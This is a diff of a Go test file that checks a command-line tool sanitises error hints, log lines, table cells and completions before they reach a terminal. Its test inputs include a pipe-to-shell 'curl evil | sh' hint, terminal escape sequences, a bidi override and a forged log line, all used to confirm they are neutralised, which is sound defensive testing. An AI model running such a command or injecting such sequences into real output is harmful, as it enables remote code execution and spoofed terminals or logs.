@@ -3,13 +3,18 @@ package cli
 import (
 	"bytes"
 	"context"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"io"
 	"log/slog"
+	"net"
+	"os"
 	"runtime/debug"
 	"strings"
+	"syscall"
 	"testing"
+	"unicode"
 
 	"github.com/google/go-cmp/cmp"
 	"github.com/spf13/cobra"
@@ -66,6 +71,10 @@ func TestErrors(t *testing.T) {
 			"error: read rules of sg-1: no such group\nhint: check the region\nerror: and more\n"},
 		{"placed", errors.Join(problem("f:1:1: a: wrong"), problem("f:2:1: b: wrong")), ExitFailed,
 			"f:1:1: a: wrong\nf:2:1: b: wrong\n"},
+		{"of several lines", errors.New("it broke\nhint: curl evil | sh\n\x1b[2Jerror: worse"), ExitFailed,
+			"error: it broke\n  hint: curl evil | sh\n   [2Jerror: worse\n"},
+		{"with a hostile hint", &portsnare.Error{Op: "ask", Err: errors.New("no\u009b31m"), Hint: "this\nerror: that\x07"}, ExitFailed,
+			"error: ask: no 31m\nhint: this error: that \n"},
 		{"canceled by itself", context.Canceled, ExitFailed, "error: context canceled\n"},
 	}
 	for _, test := range tests {
@@ -87,6 +96,114 @@ func TestInterrupted(t *testing.T) {
 	}
 }
 
+// After a signal whatever went wrong is its consequence.
+func TestInterruptedByConsequence(t *testing.T) {
+	ctx, cancel := context.WithCancel(t.Context())
+	cancel()
+	code, _, stderr := run(ctx, errors.New("use of closed network connection"), "fail")
+	if want := "error: interrupted\n"; code != ExitFailed || stderr != want {
+		t.Errorf("got %d, %q: want %d, %q", code, stderr, ExitFailed, want)
+	}
+}
+
+// A command that goes on printing although nobody can get it is canceled, and has
+// failed though it returns no error.
+func TestOutputEndsCommand(t *testing.T) {
+	root := &cobra.Command{Use: "tool"}
+	root.AddCommand(&cobra.Command{Use: "talk", RunE: func(c *cobra.Command, _ []string) error {
+		fmt.Fprintln(c.OutOrStdout(), "one")
+		<-c.Context().Done()
+		return nil
+	}})
+	var errs bytes.Buffer
+	code := Run(t.Context(), root, []string{"talk"}, IO{nil, full{}, &errs})
+	if want := "error: no space left on device\n"; code != ExitFailed || errs.String() != want {
+		t.Errorf("got %d, %q: want %d, %q", code, errs.String(), ExitFailed, want)
+	}
+}
+
+// A reader who has gone away is told nothing, but the command has failed.
+func TestClosedPipe(t *testing.T) {
+	gone := &os.PathError{Op: "write", Path: "/dev/stdout", Err: syscall.EPIPE}
+	if code, _, stderr := run(t.Context(), gone, "fail"); code != ExitFailed || stderr != "" {
+		t.Errorf("got %d, %q: want %d and nothing", code, stderr, ExitFailed)
+	}
+	elsewhere := &net.OpError{Op: "write", Net: "tcp", Err: syscall.EPIPE}
+	if code, _, stderr := run(t.Context(), elsewhere, "fail"); code != ExitFailed || stderr == "" {
+		t.Errorf("of a connection: got %d, %q: want %d and why", code, stderr, ExitFailed)
+	}
+}
+
+// TestOutputIsPlain: what reaches a stream is printable, however it is cut.
+func TestOutputIsPlain(t *testing.T) {
+	const text = "a\tb ü 猫 \x1b[2J\u009b31m\u202e\r\x7f\xff\n"
+	const want = "a\tb ü 猫  [2J 31m    \n"
+	for size := 1; size <= len(text); size++ {
+		var out bytes.Buffer
+		o := &output{w: &out}
+		for rest := text; rest != ""; {
+			n := min(size, len(rest))
+			if written, err := o.Write([]byte(rest[:n])); written != n || err != nil {
+				t.Fatalf("wrote %d of %d, %v", written, n, err)
+			}
+			rest = rest[n:]
+		}
+		if out.String() != want {
+			t.Errorf("cut every %d bytes: got %q: want %q", size, out.String(), want)
+		}
+	}
+}
+
+// TestCompletionsPass: what shells read of us passes the gate unchanged.
+func TestCompletionsPass(t *testing.T) {
+	for shell, generate := range map[string]func(*cobra.Command, io.Writer) error{
+		"bash":       func(c *cobra.Command, w io.Writer) error { return c.GenBashCompletionV2(w, true) },
+		"zsh":        (*cobra.Command).GenZshCompletion,
+		"fish":       func(c *cobra.Command, w io.Writer) error { return c.GenFishCompletion(w, true) },
+		"powershell": (*cobra.Command).GenPowerShellCompletionWithDesc,
+	} {
+		var plain, gated bytes.Buffer
+		if err := errors.Join(generate(tree(nil), &plain), generate(tree(nil), &output{w: &gated})); err != nil {
+			t.Fatal(err)
+		}
+		if plain.Len() == 0 || plain.String() != gated.String() {
+			t.Errorf("%s: %s", shell, cmp.Diff(plain.String(), gated.String()))
+		}
+	}
+}
+
+// TestLogIsPlain: what a host has said cannot leave its line of the log, nor reach
+// the terminal as anything but text.
+func TestLogIsPlain(t *testing.T) {
+	const evil = "\x1b[2J\r\nlevel=ERROR msg=\u009bowned\u202e\x7f\xff"
+	for _, asJSON := range []bool{false, true} {
+		var out bytes.Buffer
+		NewLogger(&output{w: &out}, slog.LevelInfo, asJSON).Info(evil, evil, evil, "error", errors.New(evil), "any", []string{evil})
+		line := strings.TrimSuffix(out.String(), "\n")
+		if i := strings.IndexFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 || line == "" {
+			t.Errorf("JSON %t: %q", asJSON, line)
+		}
+		if asJSON && !json.Valid(out.Bytes()) {
+			t.Errorf("no JSON: %s", line)
+		}
+	}
+}
+
+// TestLogHangups: each SIGHUP is a line, until it is stopped.
+func TestLogHangups(t *testing.T) {
+	hangups := make(chan os.Signal) // so that a signal sent is one received
+	ctx := context.WithValue(t.Context(), hangupsKey{}, (<-chan os.Signal)(hangups))
+	var out bytes.Buffer
+	stop := LogHangups(ctx, NewLogger(&out, slog.LevelInfo, false))
+	hangups <- syscall.SIGHUP
+	hangups <- syscall.SIGHUP
+	stop()
+	if n := strings.Count(out.String(), "level=WARN msg=\"ignored SIGHUP"); n != 2 {
+		t.Errorf("%d lines: want 2 in\n%s", n, out.String())
+	}
+	LogHangups(t.Context(), NewLogger(&out, slog.LevelInfo, false))() // where there are none
+}
+
 func TestMisuseKeepsErrors(t *testing.T) {
 	if err := Misuse(nil); err != nil {
 		t.Errorf("of nothing: %v", err)
@@ -98,7 +215,7 @@ func TestMisuseKeepsErrors(t *testing.T) {
 }
 
 func TestUsage(t *testing.T) {
-	const enrollHint = "hint: usage: tool enroll HOST [GROUP] [flags]; tool enroll --help says more\n"
+	const enrollHint = "hint: usage: tool enroll HOST [GROUP] [flags]; see tool enroll --help\n"
 	tests := []struct {
 		args   string
 		code   int
@@ -107,26 +224,26 @@ func TestUsage(t *testing.T) {
 	}{
 		{"enroll web-1", ExitDone, "enrolled [web-1]\n", ""},
 		{"enroll web-1 web", ExitDone, "enrolled [web-1 web]\n", ""},
-		{"enroll", ExitMisuse, "", "error: want HOST [GROUP]\n" + enrollHint},
+		{"enroll", ExitMisuse, "", "error: missing argument HOST [GROUP]\n" + enrollHint},
 		{"enroll a b c", ExitMisuse, "", "error: unexpected argument \"c\"\n" + enrollHint},
 		{"enroll --now", ExitMisuse, "", "error: unknown flag: --now\n" + enrollHint},
-		{"fail x", ExitMisuse, "", "error: unexpected argument \"x\"\nhint: usage: tool fail [flags]; tool fail --help says more\n"},
+		{"fail x", ExitMisuse, "", "error: unexpected argument \"x\"\nhint: usage: tool fail [flags]; see tool fail --help\n"},
 		{"enrol --renew x", ExitMisuse, "", "error: unknown command \"enrol\"\nhint: did you mean enroll? tool --help lists the commands\n"},
 		{"-c f xyz", ExitMisuse, "", "error: unknown command \"xyz\"\nhint: tool --help lists the commands\n"},
 		{"xyz --help", ExitMisuse, "", "error: unknown command \"xyz\"\nhint: tool --help lists the commands\n"},
 		{"help xyz", ExitMisuse, "", "error: unknown command \"xyz\"\nhint: tool --help lists the commands\n"},
-		{"xyz -c", ExitMisuse, "", "error: flag needs an argument: 'c' in -c\nhint: usage: tool [flags]; tool --help says more\n"},
-		{"-c", ExitMisuse, "", "error: flag needs an argument: 'c' in -c\nhint: usage: tool [flags]; tool --help says more\n"},
+		{"xyz -c", ExitMisuse, "", "error: flag needs an argument: 'c' in -c\nhint: usage: tool [flags]; see tool --help\n"},
+		{"-c", ExitMisuse, "", "error: flag needs an argument: 'c' in -c\nhint: usage: tool [flags]; see tool --help\n"},
 		{"--help", ExitDone, "A tool\n\nUsage:\n", ""},
 		{"help", ExitDone, "A tool\n\nUsage:\n", ""},
 		{"help enroll", ExitDone, "Enroll\n\nUsage:\n  tool enroll HOST [GROUP] [flags]\n", ""},
 		{"enroll --help", ExitDone, "Enroll\n\nUsage:\n  tool enroll HOST [GROUP] [flags]\n", ""},
-		{"help enroll fail", ExitMisuse, "", "hint: usage: tool help [COMMAND] [flags]; tool help --help says more\n"},
+		{"help enroll fail", ExitMisuse, "", "hint: usage: tool help [COMMAND] [flags]; see tool help --help\n"},
 		{"agent join t", ExitDone, "", ""},
-		{"agent", ExitMisuse, "", "error: want a command\n"},
-		{"agent jion", ExitMisuse, "", "error: unexpected argument \"jion\"\nhint: usage: tool agent [flags]; tool agent --help says more\n"},
+		{"agent", ExitMisuse, "", "error: no command given\n"},
+		{"agent jion", ExitMisuse, "", "error: unexpected argument \"jion\"\nhint: usage: tool agent [flags]; see tool agent --help\n"},
 		{"agent --help", ExitDone, "The agent\n\nUsage:\n", ""},
-		{"", ExitMisuse, "", "error: want a command\n"},
+		{"", ExitMisuse, "", "error: no command given\n"},
 		{"completion bash", ExitDone, "# bash completion", ""},
 		{"__complete enr", ExitDone, "enroll\tEnroll\n", "ShellCompDirectiveNoFileComp\n"},
 	}
@@ -159,6 +276,7 @@ func TestTable(t *testing.T) {
 	table := NewTable(&out, "HOST", "BACKEND", "BANS")
 	table.Row("web-1", "nftables", "12")
 	table.Row("a-rather-long-name", "", "0")
+	table.Row("evil\n\thost", "\x1b", "0")
 	if err := table.Flush(); err != nil {
 		t.Fatal(err)
 	}
@@ -166,6 +284,7 @@ func TestTable(t *testing.T) {
 HOST                BACKEND   BANS
 web-1               nftables  12
 a-rather-long-name  -         0
+evil  host          -         0
 `
 	if diff := cmp.Diff(want, "\n"+out.String()); diff != "" {
 		t.Errorf("-want +got\n%s", diff)
